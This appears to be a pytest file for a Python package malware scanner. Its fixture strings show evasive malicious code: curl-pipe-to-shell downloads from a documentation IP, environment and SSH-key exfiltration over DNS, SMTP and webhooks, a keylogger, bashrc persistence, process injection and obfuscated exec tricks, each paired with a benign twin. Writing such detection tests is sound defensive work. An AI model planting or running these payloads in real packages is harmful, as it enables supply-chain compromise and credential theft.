"""Evasions of each technique real campaigns use, as harmless fixtures the tests write (never run: the scanner
only reads them), each with a benign twin. A positive must be caught at the weight its placement deserves
(install or import time: a block; library code of an unknown project: at least a warning); a twin must not warn.
Addresses are documentation ones (example.invalid, 192.0.2.x); payloads decode to print()."""

from __future__ import annotations

import base64
from pathlib import Path

import pytest

from jupyter_safepip.core.model import Severity
from tests.support.archives import scan_sdist, scan_wheel

PRINT_HI = base64.b64encode(b"print('hi')").decode()
RUN_ID = base64.b64encode(b"import os\nos.system('id')").decode()
HOOK = "https://discord.com/api/webhooks/0/example"

# (id, where the code runs, source) where: "setup" (setup.py), "import" (package __init__ at module level),
# "library" (a function of a module nobody calls on import).
POSITIVES = [
    ("alias-module", "import", "import os\no = os\no.system('curl http://192.0.2.1/x | sh')\n"),
    ("alias-function", "import", "import urllib.request\nf = urllib.request.urlopen\nexec(f('http://192.0.2.1/x').read())\n"),
    ("from-import-as", "setup", "from os import system as s\ns('curl http://192.0.2.1/x | sh')\n"),
    ("getattr-concat", "import", "import os\ngetattr(os, 'sys' + 'tem')('id')\n"),
    ("dunder-import-concat", "import", "__import__('o' + 's').system('id')\n"),
    ("globals-builtins", "import", f"import base64\nglobals()['__builtins__']['ex' + 'ec'](base64.b64decode('{PRINT_HI}'))\n"),
    ("vars-builtins", "import", f"import base64, builtins\nvars(builtins)['ex' + 'ec'](base64.b64decode('{PRINT_HI}'))\n"),
    ("sys-modules-builtins", "import", f"import sys, base64\nsys.modules['builtins'].exec(base64.b64decode('{PRINT_HI}'))\n"),
    ("importlib-computed", "import", f"import importlib, base64\nimportlib.import_module('built' + 'ins').exec(base64.b64decode('{PRINT_HI}'))\n"),
    ("methodcaller", "import", "import operator, os\noperator.methodcaller('system', 'curl http://192.0.2.1/x | sh')(os)\n"),
    ("dunder-call", "import", f"import base64\nexec.__call__(base64.b64decode('{PRINT_HI}'))\n"),
    ("helper-decoder", "import", f"import base64\ndef unpack(s):\n    return base64.b64decode(s)\nexec(unpack('{RUN_ID}'))\n"),
    ("lambda-runner", "import", f"import base64\nrun = lambda code: exec(code)\nrun(base64.b64decode('{RUN_ID}'))\n"),
    ("chunked-base64", "import", "import base64\nparts = [" + ", ".join(repr(RUN_ID[i:i + 6]) for i in range(0, len(RUN_ID), 6))
        + "]\nexec(base64.b64decode(''.join(parts)))\n"),
    ("exec-literal-code", "import", "exec(\"import os\\nos.system('curl http://192.0.2.1/x | sh')\")\n"),
    ("nfkc-exec", "import", f"import base64\n\U0001d68e\U0001d6a1\U0001d68e\U0001d68c(base64.b64decode('{PRINT_HI}'))\n"),
    ("ctypes-libc-system", "import", "import ctypes\nctypes.CDLL('libc.so.6').system(b'curl http://192.0.2.1/x | sh')\n"),
    ("posix-spawnp", "setup", "import os\nos.posix_spawnp('curl', ['curl', 'http://192.0.2.1/x', '-o', '/tmp/x'], {})\n"),
    ("pickle-payload", "import", "import pickle, base64\npickle.loads(base64.b64decode('gASVAAAAAAAAAAA='))\n"),
    ("injection", "library", "import ctypes\ndef load(code):\n    k = ctypes.windll.kernel32\n    p = k.VirtualAllocEx(-1, 0, len(code), 0x3000, 0x40)\n"
        "    k.WriteProcessMemory(-1, p, code, len(code), 0)\n    k.CreateRemoteThread(-1, 0, 0, p, 0, 0, 0)\n"),
    ("vendored-requests", "import", "from pip._vendor import requests\nexec(requests.get('http://192.0.2.1/x').text)\n"),
    ("build-opener", "import", "import urllib.request\nexec(urllib.request.build_opener().open('http://192.0.2.1/x').read())\n"),
    ("socket-exec", "import", "import socket\ns = socket.create_connection(('192.0.2.1', 4444))\nexec(s.recv(65536))\n"),
    ("dns-exfil", "import", "import os, socket\nsocket.gethostbyname(str(os.environ.copy())[:40] + '.example.invalid')\n"),
    ("smtp-environ", "import", "import os, smtplib\nsmtplib.SMTP('192.0.2.1').sendmail('a@example.invalid', ['b@example.invalid'], str(dict(os.environ)))\n"),
    ("split-webhook", "import", "import os, requests\nrequests.post('https://disc' + 'ord.com/api/web' + 'hooks/0/x', data=dict(os.environ))\n"),
    ("ssh-key-pathlib", "library", "import pathlib, requests\ndef sync():\n    key = (pathlib.Path.home() / '.ss' 'h' / 'id_rsa').read_text()\n"
        "    requests.post('https://192.0.2.1/k', data=key)\n"),
    ("read-in-one-method-send-in-another", "library", "import os, requests\nclass Sync:\n    def __init__(self):\n"
        "        self.data = dict(os.environ)\n    def push(self):\n        requests.post('https://192.0.2.1/e', json=self.data)\n"),
    ("screenshot-sent", "library", "import requests\nfrom PIL import ImageGrab\ndef snap():\n    ImageGrab.grab().save('/tmp/s.png')\n"
        "    requests.post('https://192.0.2.1/s', files={'f': open('/tmp/s.png', 'rb')})\n"),
    ("keylogger", "import", "from pynput import keyboard\nkeyboard.Listener(on_press=print).start()\n"),
    ("bashrc-pathlib", "setup", "import pathlib\n(pathlib.Path.home() / '.ba' 'shrc').open('a').write('curl http://192.0.2.1/x | sh\\n')\n"),
    ("called-at-module-level", "import", "import os\ndef go():\n    os.system('curl http://192.0.2.1/x | sh')\ngo()\n"),
    ("decorator-runs", "import", "import os\ndef plugin(f):\n    os.system('curl http://192.0.2.1/x | sh')\n    return f\n@plugin\ndef main():\n    pass\n"),
    ("class-body", "import", "import os\nclass Config:\n    os.system('curl http://192.0.2.1/x | sh')\n"),
]
BENIGN_TWINS = [
    ("git-describe-in-setup", "setup", "import subprocess\nfrom setuptools import setup\n"
        "version = subprocess.check_output(['git', 'describe', '--tags']).decode().strip()\nsetup(name='demo', version=version)\n"),
    ("cli-runs-a-program", "library", "import subprocess\ndef run(args):\n    return subprocess.run(['git', *args], check=True)\n"),
    ("plugin-loader", "import", "import importlib\nfrom importlib.metadata import entry_points\n"
        "PLUGINS = [importlib.import_module(ep.module) for ep in entry_points(group='demo.plugins')]\n"),
    ("weights-downloader", "library", "import urllib.request\ndef fetch(url, path):\n    urllib.request.urlretrieve(url, path)\n    return path\n"),
    ("twine-like-upload", "library", "import configparser, os, requests\ndef upload(repository, dist):\n"
        "    cfg = configparser.ConfigParser()\n    cfg.read(os.path.expanduser('~/.pypirc'))\n"
        "    user, password = cfg[repository]['username'], cfg[repository]['password']\n"
        "    return requests.post(cfg[repository]['repository'], auth=(user, password), files={'content': open(dist, 'rb')})\n"),
    ("decodes-data-not-code", "import", f"import base64\nLOGO = base64.b64decode('{PRINT_HI}')\n"),
    ("api-key-from-env", "library", "import os, requests\ndef ask(q):\n    return requests.post('https://api.example.invalid/v1', "
        "headers={'Authorization': os.environ['API_KEY']}, json={'q': q})\n"),
    ("own-hostname", "import", "import socket\nADDRESS = socket.gethostbyname(socket.gethostname())\n"),
    ("six-style-exec", "import", "exec('def reraise(tp, value, tb=None):\\n    raise value')\n"),
    ("main-guard", "import", "import subprocess\nif __name__ == '__main__':\n    subprocess.run(['make', 'docs'])\n"),
    ("chmod-read-only", "library", "import os, urllib.request\ndef cache(url, path):\n    urllib.request.urlretrieve(url, path)\n"
        "    os.chmod(path, 0o644 & ~os.umask(0))\n"),
]


def _scan(tmp_path: Path, where: str, source: str):
    if where == "setup":
        return scan_sdist(tmp_path, {"setup.py": source + "\nfrom setuptools import setup\nsetup(name='demo')\n"})
    if where == "import":
        return scan_wheel(tmp_path, {"demo/__init__.py": source})
    return scan_wheel(tmp_path, {"demo/__init__.py": "", "demo/tools.py": source})


@pytest.mark.parametrize(("case", "where", "source"), POSITIVES, ids=[p[0] for p in POSITIVES])
def test_an_evasion_is_caught_at_the_weight_its_placement_deserves(tmp_path, case, where, source):
    findings = _scan(tmp_path, where, source).findings
    worst = max((f.severity for f in findings), default=Severity.INFO)
    wanted = Severity.MEDIUM if where == "library" else Severity.HIGH
    assert worst >= wanted, f"{case}: {[(f.rule_id, f.severity.label) for f in findings]}"


@pytest.mark.parametrize(("case", "where", "source"), BENIGN_TWINS, ids=[b[0] for b in BENIGN_TWINS])
def test_the_benign_twin_does_not_warn(tmp_path, case, where, source):
    findings = _scan(tmp_path, where, source).findings
    loud = [(f.rule_id, f.severity.label) for f in findings if f.severity >= Severity.MEDIUM]
    assert not loud, f"{case}: {loud}"


KERNEL = "demo-1.0.data/data/share/jupyter/kernels/demo/kernel.json"


@pytest.mark.parametrize(("files", "rule", "blocks"), [
    ({KERNEL: '{"argv": ["bash", "-c", "curl http://192.0.2.1/x | sh; python -m ipykernel -f {connection_file}"]}'},
     "install-jupyter-kernel-command", True),
    ({KERNEL: '{"argv": ["python", "-m", "ipykernel_launcher", "-f", "{connection_file}"]}'}, "install-jupyter-hook", False),
    ({"demo-1.0.data/data/etc/jupyter/jupyter_server_config.d/demo.json":
      '{"ServerApp": {"jpserver_extensions": {"demo": true}}}'}, "install-jupyter-hook", False),
    ({"demo-1.0.data/scripts/python3": "#!/bin/sh\ncurl http://192.0.2.1/x | sh\n"}, "install-command-shadowing", True),
    ({"demo-1.0.dist-info/entry_points.txt": "[console_scripts]\ngit = demo.cli:main\n"}, "install-command-shadowing", True),
    ({"demo-1.0.dist-info/entry_points.txt": "[console_scripts]\ndemo = demo.cli:main\n"}, None, False),
])
def test_what_a_wheel_hooks_into_jupyter_and_the_shell(tmp_path, files, rule, blocks):
    findings = scan_wheel(tmp_path, {"demo/__init__.py": "", **files}).findings
    worst = max((f.severity for f in findings), default=Severity.INFO)
    assert rule is None or rule in {f.rule_id for f in findings}
    assert (worst >= Severity.HIGH) is blocks, [(f.rule_id, f.severity.label) for f in findings]


def test_an_ipython_config_file_in_a_wheel_is_start_up_code(tmp_path):
    code = "import os\nos.system('curl http://192.0.2.1/x | sh')\n"
    startup = scan_wheel(tmp_path / "s", {"demo/__init__.py": "", "demo-1.0.data/data/etc/ipython/ipython_config.py": code})
    assert max(f.severity for f in startup.findings) >= Severity.HIGH
    assert any(f.runs == "startup" for f in startup.findings)


def test_decoder_and_payload_in_different_modules_of_the_package(tmp_path):
    files = {"demo/__init__.py": "from .run import go\ngo()\n",
             "demo/blob.py": f"DATA = '{RUN_ID}'\n",
             "demo/run.py": "import base64\nfrom .blob import DATA\ndef go():\n    exec(base64.b64decode(DATA))\n"}
    twin = {**files, "demo/blob.py": "DATA = 'a plain configuration value'\n",
            "demo/run.py": "import base64\nfrom .blob import DATA\ndef go():\n    return base64.b64decode(DATA)\n"}
    caught = scan_wheel(tmp_path / "p", files).findings
    assert "obfuscation-exec-decoded" in {f.rule_id for f in caught}
    assert "obfuscation-exec-decoded" not in {f.rule_id for f in scan_wheel(tmp_path / "t", twin).findings}
